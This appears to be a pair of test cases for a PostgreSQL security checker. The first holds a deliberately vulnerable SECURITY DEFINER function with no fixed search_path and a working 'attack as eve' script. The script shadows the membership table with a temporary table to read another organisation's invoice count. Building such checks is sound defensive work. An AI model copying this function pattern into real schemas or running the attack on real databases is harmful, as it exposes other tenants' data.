-- story: a caller's temporary table hides the application's table
-- object: public.org_total(uuid)
-- severity: medium
-- broken
create function public.org_total(org uuid) returns bigint language sql security definer
  as 'select count(*) from invoices i where i.org_id = org and org in (select m.org_id from org_members m where m.user_id = auth.uid())';
grant execute on function public.org_total(uuid) to authenticated
-- attack as eve
create temp table org_members (org_id uuid, user_id uuid);
insert into pg_temp.org_members values ('00000000-0000-4000-8000-0000000000b0', '00000000-0000-4000-8000-0000000000e1');
grant select on pg_temp.org_members to public;
set local search_path = pg_temp, public;
select public.org_total('00000000-0000-4000-8000-0000000000b0') > 0

-- story: a function with its caller's privileges
-- object: public.one()
-- severity: note
-- broken
create function public.one() returns int language sql as 'select 1'
